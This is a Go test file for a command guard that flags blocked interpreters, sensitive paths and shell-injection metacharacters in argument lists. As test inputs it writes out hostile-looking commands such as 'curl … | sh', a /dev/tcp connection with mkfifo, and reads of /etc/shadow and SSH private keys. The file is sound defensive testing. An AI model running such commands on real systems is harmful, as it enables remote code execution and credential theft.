package guard

import (
	"encoding/json"
	"reflect"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"
)

// hits reduces violations to "type:match" strings for comparison.
func hits(vs []Violation) []string {
	out := []string{}
	for _, v := range vs {
		out = append(out, string(v.Type)+":"+v.Match)
	}
	return out
}

func TestCheckCommand(t *testing.T) {
	tests := []struct {
		name string
		argv []string
		want []string
	}{
		// True positives: the blocklist.
		{"python3 with an argument", []string{"python3", "-c", "print(1)"}, []string{"blocked_command:python3"}},
		{"absolute path", []string{"/usr/bin/python3", "x.py"}, []string{"blocked_command:python3"}},
		{"env wrapper", []string{"/usr/bin/env", "python3", "x.py"}, []string{"blocked_command:python3"}},
		{"env with options and assignments", []string{"env", "-i", "-u", "HOME", "A=1", "node", "x.js"}, []string{"blocked_command:node"}},
		{"env split string", []string{"env", "-S", "perl -e 1"}, []string{"blocked_command:perl"}},
		{"nested wrappers", []string{"timeout", "-s", "KILL", "5s", "nice", "-n", "10", "gcc", "a.c"}, []string{"blocked_command:gcc"}},
		{"timeout long option", []string{"timeout", "--signal=KILL", "5", "ruby"}, []string{"blocked_command:ruby"}},
		{"sudo user", []string{"sudo", "-u", "bob", "make"}, []string{"blocked_command:make"}},
		{"flock -c script", []string{"flock", "/tmp/l", "-c", "python3 x | sh"},
			[]string{"blocked_command:python3", "blocked_command:sh", "shell_injection:| sh"}},
		{"su -c script", []string{"su", "-c", "$(id)", "nobody"}, []string{"shell_injection:$("}},
		{"busybox applet", []string{"busybox", "sh", "-c", "ls"}, []string{"blocked_command:sh"}},
		{"shell runs blocked commands", []string{"/bin/sh", "-c", "cd /tmp && python3 a.py; X=1 node b.js"},
			[]string{"blocked_command:sh", "blocked_command:python3", "blocked_command:node"}},
		{"quoted command in script", []string{"dash", "-c", `p'y'thon3 -V; \perl -v`},
			[]string{"blocked_command:dash", "blocked_command:python3", "blocked_command:perl"}},

		// True positives: sensitive paths, every one reported.
		{"cat /etc/shadow", []string{"cat", "/etc/shadow"}, []string{"sensitive_path:/etc/shadow"}},
		{"all hits", []string{"cat", "/etc/shadow", "/home/a/.ssh/id_rsa", "/dev/mem"},
			[]string{"sensitive_path:/etc/shadow", "sensitive_path:/.ssh/", "sensitive_path:/dev/mem"}},
		{"two in one argument", []string{"tar", "cf", "x.tar", "--files-from=/root/.aws/list"},
			[]string{"sensitive_path:/root/", "sensitive_path:/.aws/"}},
		{"shadow backup", []string{"cp", "/etc/shadow-", "/tmp"}, []string{"sensitive_path:/etc/shadow"}},
		{"double slash", []string{"cat", "/etc//shadow"}, []string{"sensitive_path:/etc/shadow"}},
		{"dot segments", []string{"cat", "/tmp/../etc/./shadow"}, []string{"sensitive_path:/etc/shadow"}},
		{"upper case", []string{"cat", "/ETC/SHADOW"}, []string{"sensitive_path:/etc/shadow"}},
		{"directory without slash", []string{"ls", "/root"}, []string{"sensitive_path:/root/"}},
		{"ssh dir without slash", []string{"ls", "~/.ssh"}, []string{"sensitive_path:/.ssh/"}},
		{"dd option", []string{"dd", "if=/dev/mem", "of=x"}, []string{"sensitive_path:/dev/mem"}},
		{"in argv0", []string{"/root/bin/tool"}, []string{"sensitive_path:/root/"}},

		// True positives: metacharacters in shell -c scripts.
		{"curl pipe sh", []string{"sh", "-c", "curl http://x | sh"},
			[]string{"blocked_command:sh", "blocked_command:sh", "shell_injection:| sh"}},
		{"pipe sh without blank", []string{"bash", "-ec", "curl x|sh"},
			[]string{"blocked_command:bash", "blocked_command:sh", "shell_injection:| sh"}},
		{"every metachar", []string{"sh", "-c", "echo $(id) ${HOME} `date`; exec 3<>/dev/tcp/1.2.3.4/80; mkfifo /tmp/f"},
			[]string{"blocked_command:sh", "shell_injection:`", "shell_injection:$(", "shell_injection:${", "shell_injection:/dev/tcp", "shell_injection:mkfifo"}},
		{"shell after find -exec", []string{"find", ".", "-exec", "sh", "-c", "echo $(cat {})", ";"},
			[]string{"shell_injection:$("}},
		{"fish long form", []string{"fish", "--command=echo (id) | bash"},
			[]string{"blocked_command:fish", "blocked_command:bash", "shell_injection:| bash"}},
		{"option with value before -c", []string{"bash", "-o", "pipefail", "-c", "a | /bin/bash"},
			[]string{"blocked_command:bash", "blocked_command:bash", "shell_injection:| /bin/bash"}},

		// False positives that must not be reported.
		{"etc notes", []string{"cat", "./etc-notes.txt"}, []string{}},
		{"shadow elsewhere", []string{"cat", "/home/u/etc/shadowbox.txt"}, []string{}},
		{"mem is not memory", []string{"ls", "/dev/memory_map"}, []string{}},
		{"chroot dir is not root", []string{"ls", "/home/chroot"}, []string{}},
		{"python as an argument", []string{"which", "python3"}, []string{}},
		{"python3 prefix", []string{"python3.12-config"}, []string{}},
		{"metachars outside a shell", []string{"echo", "$(id) | sh `x`"}, []string{}},
		{"shell script file", []string{"sh", "run.sh", "$(x)"}, []string{"blocked_command:sh"}},
		{"pipe shuf is not pipe sh", []string{"sh", "-c", "seq 5 | shuf"}, []string{"blocked_command:sh"}},
		{"plain ls", []string{"ls", "-la", "/tmp"}, []string{}},
		{"empty argv", nil, []string{}},
		{"env ends in assignments", []string{"env", "A=1"}, []string{}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := hits(CheckCommand(tt.argv, Config{}))
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("CheckCommand(%q) = %q, want %q", tt.argv, got, tt.want)
			}
		})
	}
}

func TestCheckCommandConfig(t *testing.T) {
	tests := []struct {
		name string
		argv []string
		cfg  Config
		want []string
	}{
		{"python3 allowed by a custom blocklist", []string{"python3", "x.py"}, Config{BlockedCommands: []string{"gcc"}}, []string{}},
		{"empty blocklist", []string{"gcc"}, Config{BlockedCommands: []string{}}, []string{}},
		{"blocklist off", []string{"python3"}, Config{DisableCommandBlocklist: true}, []string{}},
		{"blocklist is case-sensitive", []string{"Python3"}, Config{}, []string{}},
		{"sensitive paths off", []string{"cat", "/etc/shadow"}, Config{DisableSensitivePaths: true}, []string{}},
		{"custom sensitive path", []string{"cat", "/srv/secret.key"}, Config{SensitivePaths: []string{"/srv/"}}, []string{"sensitive_path:/srv/"}},
		{"metachars off", []string{"sh", "-c", "$(x)"}, Config{DisableShellMetachars: true, DisableCommandBlocklist: true}, []string{}},
		{"custom shell", []string{"rc", "-c", "$(x)"}, Config{Shells: []string{"rc"}}, []string{"shell_injection:$("}},
		{"custom metachar", []string{"sh", "-c", "a && b"}, Config{ShellMetachars: []string{"&&"}, DisableCommandBlocklist: true}, []string{"shell_injection:&&"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if err := tt.cfg.Validate(); err != nil {
				t.Fatal(err)
			}
			got := hits(CheckCommand(tt.argv, tt.cfg))
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("CheckCommand(%q) = %q, want %q", tt.argv, got, tt.want)
			}
		})
	}
}

// TestZeroConfigIsDefault checks that the zero Config and DefaultConfig
// (also after a JSON round trip) behave alike on every command above.
func TestZeroConfigIsDefault(t *testing.T) {
	def := DefaultConfig()
	b, err := json.Marshal(def)
	if err != nil {
		t.Fatal(err)
	}
	var decoded Config
	if err := json.Unmarshal(b, &decoded); err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(decoded, def) {
		t.Fatalf("JSON round trip changed the config:\n%+v\n%+v", decoded, def)
	}
	for _, argv := range [][]string{
		{"python3", "/etc/shadow"}, {"sh", "-c", "curl x | sh"}, {"ls"}, {"env", "node"},
	} {
		if a, b := CheckCommand(argv, Config{}), CheckCommand(argv, def); !reflect.DeepEqual(a, b) {
			t.Errorf("%q: zero config %v, default %v", argv, a, b)
		}
	}
	if len(defaultBlockedCommands) != 26 || len(defaultSensitivePaths) != 15 || len(defaultShellMetachars) != 11 {
		t.Errorf("default lists have %d, %d, %d entries; the original has 26, 15, 11",
			len(defaultBlockedCommands), len(defaultSensitivePaths), len(defaultShellMetachars))
	}
}

func TestViolationFields(t *testing.T) {
	vs := CheckCommand([]string{"python3", "/etc/shadow"}, Config{})
	if len(vs) != 2 {
		t.Fatalf("got %v", vs)
	}
	if vs[0].Description != "blocked command: python3" {
		t.Errorf("description %q, want the original's", vs[0].Description)
	}
	for _, v := range vs {
		if v.Severity != SeverityOf(v.Type) {
			t.Errorf("%v: severity %v, want %v", v, v.Severity, SeverityOf(v.Type))
		}
	}
}

func FuzzCheckCommand(f *testing.F) {
	f.Add("sh\x00-c\x00curl x | sh")
	f.Add("env\x00-S\x00python3 -c 1")
	f.Add("timeout\x00--\x005\x00gcc")
	f.Add("cat\x00/etc//../etc/shadow")
	f.Add("bash\x00-o")
	f.Add("sudo\x00-u")
	f.Add("fish\x00--command=$(x)|sh")
	f.Add("\x00\x00")
	f.Fuzz(func(t *testing.T, s string) {
		argv := strings.Split(s, "\x00")
		vs := CheckCommand(argv, Config{})
		for _, v := range vs {
			if !v.Type.Valid() || v.Severity != SeverityOf(v.Type) || v.Description == "" {
				t.Fatalf("malformed violation %+v", v)
			}
			if v.Type == SensitivePath && !slices.Contains(defaultSensitivePaths, v.Match) {
				t.Fatalf("sensitive path match %q is not a pattern", v.Match)
			}
		}
		if utf8.ValidString(s) && len(argv) > 0 && slices.Contains(defaultBlockedCommands, baseName(argv[0])) {
			if len(vs) == 0 || vs[0].Type != BlockedCommand {
				t.Fatalf("argv[0] %q is blocked but not reported: %v", argv[0], vs)
			}
		}
	})
}

func BenchmarkCheckCommand(b *testing.B) {
	argv := []string{"/usr/bin/env", "-i", "A=1", "sh", "-c", "cd /work && ./configure && make -j4 | tee log; cat /etc/hostname"}
	b.ReportAllocs()
	for b.Loop() {
		CheckCommand(argv, Config{})
	}
}
